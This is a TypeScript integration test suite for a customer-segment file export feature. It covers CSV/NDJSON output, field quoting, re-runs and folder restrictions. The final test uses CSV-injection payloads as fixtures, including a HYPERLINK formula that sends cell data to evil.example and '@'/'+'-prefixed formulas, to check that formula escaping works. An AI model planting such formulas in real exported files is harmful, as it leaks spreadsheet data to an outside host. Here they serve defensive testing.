import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { TestAudience, type Person } from './support/audience-fixtures';
import { exportNow } from './support/export-run-wait';
import { startTestApp, type TestApp } from './support/test-app';
import { closeAll } from './support/close-all';

interface Member {
  customerId: string;
  fields: Record<string, string | number | boolean> | null;
}

const person = (i: number, groups: string[], extra: Partial<Person> = {}): Person => ({
  id: `p${i}`,
  contactId: `contact-${i}`,
  email: `p${i}@example.test`,
  firstName: i % 3 === 0 ? `Name, "${i}"` : `Name ${i}`,
  score: i * 1.5,
  groups,
  ...extra,
});

describe('file destination (through the API)', () => {
  let t: TestApp;
  let shared: string;
  let audience: TestAudience;
  let vip: string;
  let gold: string;

  beforeAll(async () => {
    shared = mkdtempSync(join(tmpdir(), 'as-shared-exports-'));
    t = await startTestApp({ env: { EXPORT_FOLDERS: shared } });
    audience = new TestAudience(t);
    await audience.load([
      ...Array.from({ length: 6 }, (_, i) => person(i, ['vip'])),
      person(6, ['vip'], { contactId: undefined, firstName: undefined }),
      ...Array.from({ length: 3 }, (_, i) => person(10 + i, ['gold'])),
    ]);
    vip = await audience.segment('VIP customers', 'vip');
    gold = await audience.segment('Gold', 'gold');
  });
  afterAll(() =>
    closeAll(t, () => {
      rmSync(shared, { recursive: true, force: true });
    }),
  );

  async function members(segmentId: string): Promise<Member[]> {
    const res = await t.api().get(`/api/segments/${segmentId}/members?limit=500`).expect(200);
    return (res.body.items as Member[]).sort((a, b) => (a.customerId < b.customerId ? -1 : 1));
  }

  const csvField = (v: string | number | boolean | null | undefined) => {
    const s = v === undefined || v === null ? '' : String(v);
    return /[",\r\n]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
  };

  function expectedCsv(rows: Member[], fields: string[]): string {
    const value = (m: Member, f: string) => (f === 'customerId' ? m.customerId : m.fields?.[f]);
    return [
      fields.join(','),
      ...rows.map((m) => fields.map((f) => csvField(value(m, f))).join(',')),
    ]
      .map((l) => `${l}\r\n`)
      .join('');
  }

  let id: string;
  const folder = () => join(t.dataDir, 'exports', 'crm');
  const fields = ['customerId', 'email', 'firstName', 'score'];

  it('writes each segment to <DATA_DIR>/exports/<folder>/<segment>.csv with the chosen fields', async () => {
    const created = await t
      .api()
      .post('/api/destinations', {
        type: 'file',
        displayName: 'CRM files',
        config: { folder: 'crm', fields },
        segmentIds: [vip, gold],
      })
      .expect(201);
    id = created.body.id;
    expect(created.body).toMatchObject({
      config: { folder: 'crm', format: 'csv', fields },
      syncMode: 'mirror',
      secrets: {},
    });

    const run = await exportNow(t, id);
    expect(run.status).toBe('succeeded');
    expect(run.segments).toEqual([
      expect.objectContaining({
        segmentName: 'VIP customers',
        status: 'succeeded',
        members: 7,
        added: 7,
        removed: 0,
        skippedNoKey: 0,
        target: {
          id: join(folder(), 'VIP-customers.csv'),
          name: 'VIP-customers.csv',
          url: `file://${join(folder(), 'VIP-customers.csv')}`,
        },
        notes: [`Wrote 7 members to ${join(folder(), 'VIP-customers.csv')}.`],
      }),
      expect.objectContaining({ segmentName: 'Gold', status: 'succeeded', members: 3, added: 3 }),
    ]);
    expect(readdirSync(folder()).sort()).toEqual(['Gold.csv', 'VIP-customers.csv']);
    expect(readFileSync(join(folder(), 'VIP-customers.csv'), 'utf8')).toBe(
      expectedCsv(await members(vip), fields),
    );
    expect(readFileSync(join(folder(), 'Gold.csv'), 'utf8')).toBe(
      expectedCsv(await members(gold), fields),
    );
    expect(readFileSync(join(folder(), 'VIP-customers.csv'), 'utf8')).toContain('"Name, ""3"""');
  });

  it('re-running produces identical files', async () => {
    const before = readFileSync(join(folder(), 'VIP-customers.csv'));
    const run = await exportNow(t, id);
    expect(run.status).toBe('succeeded');
    expect(run.segments[0]).toMatchObject({ added: 0, removed: 0, members: 7 });
    expect(readFileSync(join(folder(), 'VIP-customers.csv')).equals(before)).toBe(true);
    expect(readdirSync(folder()).sort()).toEqual(['Gold.csv', 'VIP-customers.csv']);
  });

  it('replaces the files when the membership changes, with added and removed figures', async () => {
    await audience.load([
      ...Array.from({ length: 4 }, (_, i) => person(i, ['vip'])),
      person(6, ['vip'], { contactId: undefined, firstName: undefined }),
      person(7, ['vip']),
      ...Array.from({ length: 3 }, (_, i) => person(10 + i, ['gold'])),
    ]);
    await t.api().post(`/api/segments/${vip}/evaluate`).expect(200);
    const run = await exportNow(t, id);
    expect(run.segments[0]).toMatchObject({ members: 6, added: 1, removed: 2 });
    expect(readFileSync(join(folder(), 'VIP-customers.csv'), 'utf8')).toBe(
      expectedCsv(await members(vip), fields),
    );
  });

  it('writes NDJSON, and only members with a key when contactIdField is set', async () => {
    await t
      .api()
      .put(`/api/destinations/${id}`, {
        config: { folder: 'crm', format: 'ndjson', fields: ['email', 'score'] },
        contactIdField: 'contactId',
      })
      .expect(200);
    const run = await exportNow(t, id);
    expect(run.segments[0]).toMatchObject({ members: 6, skippedNoKey: 1 });
    expect(run.segments[0].notes).toEqual(
      expect.arrayContaining([
        '1 member(s) have no contactId: skipped.',
        "Removed VIP-customers.csv, the segment's previous file (renamed segment or format).",
      ]),
    );
    expect(readdirSync(folder()).sort()).toEqual(['Gold.ndjson', 'VIP-customers.ndjson']);
    const lines = readFileSync(join(folder(), 'VIP-customers.ndjson'), 'utf8')
      .trimEnd()
      .split('\n');
    const expected = (await members(vip))
      .filter((m) => m.fields?.contactId)
      .map((m) => ({ email: m.fields?.email, score: m.fields?.score }));
    expect(lines.map((l) => JSON.parse(l))).toEqual(expected);
  });

  it('writes to an absolute folder only inside EXPORT_FOLDERS', async () => {
    const outside = await t
      .api()
      .put(`/api/destinations/${id}`, { config: { folder: '/tmp', fields: ['email'] } })
      .expect(400);
    expect(outside.body.details).toEqual([
      {
        path: 'config.folder',
        message: `absolute folder /tmp is not allowed: it must be inside one of: ${shared}; or use a folder relative to DATA_DIR/exports`,
      },
    ]);
    await t
      .api()
      .put(`/api/destinations/${id}`, {
        config: { folder: join(shared, 'out'), fields: ['email'] },
        contactIdField: null,
      })
      .expect(200);
    const test = await t.api().post(`/api/destinations/${id}/test`).expect(200);
    expect(test.body).toMatchObject({ ok: true, details: { folder: join(shared, 'out') } });
    const run = await exportNow(t, id);
    expect(run.status).toBe('succeeded');
    expect(readdirSync(join(shared, 'out')).sort()).toEqual(['Gold.csv', 'VIP-customers.csv']);
    expect(readFileSync(join(shared, 'out', 'Gold.csv'), 'utf8')).toBe(
      'email\r\np10@example.test\r\np11@example.test\r\np12@example.test\r\n',
    );
  });
  it('neutralizes spreadsheet formulas in CSV cells unless formulaEscaping is turned off', async () => {
    const hostile = new TestAudience(t, 'hostile people');
    await hostile.load([
      person(20, ['formula'], { firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Open")' }),
      person(21, ['formula'], { firstName: '@SUM(1+1)*cmd', email: '+1+2@example.test' }),
    ]);
    const formula = await hostile.segment('Formulas', 'formula');
    const type = (await t.api().get('/api/destination-types').expect(200)).body.find(
      (d: { type: string }) => d.type === 'file',
    );
    expect(type.configSchema.properties.formulaEscaping).toMatchObject({
      type: 'boolean',
      default: true,
      description: expect.stringMatching(/formula/),
    });
    const created = await t
      .api()
      .post('/api/destinations', {
        type: 'file',
        displayName: 'Spreadsheet files',
        config: { folder: 'sheets', fields: ['firstName', 'email'] },
        segmentIds: [formula],
      })
      .expect(201);
    expect(created.body.config.formulaEscaping).toBe(true);
    const file = join(t.dataDir, 'exports', 'sheets', 'Formulas.csv');
    expect((await exportNow(t, created.body.id)).status).toBe('succeeded');
    expect(readFileSync(file, 'utf8')).toBe(
      [
        'firstName,email',
        '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")",p20@example.test',
        '"\'@SUM(1+1)*cmd","\'+1+2@example.test"',
        '',
      ].join('\r\n'),
    );

    await t
      .api()
      .put(`/api/destinations/${created.body.id}`, {
        config: { folder: 'sheets', fields: ['firstName', 'email'], formulaEscaping: false },
      })
      .expect(200);
    expect((await exportNow(t, created.body.id)).status).toBe('succeeded');
    expect(readFileSync(file, 'utf8')).toBe(
      [
        'firstName,email',
        '"=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")",p20@example.test',
        '@SUM(1+1)*cmd,+1+2@example.test',
        '',
      ].join('\r\n'),
    );
  });
});
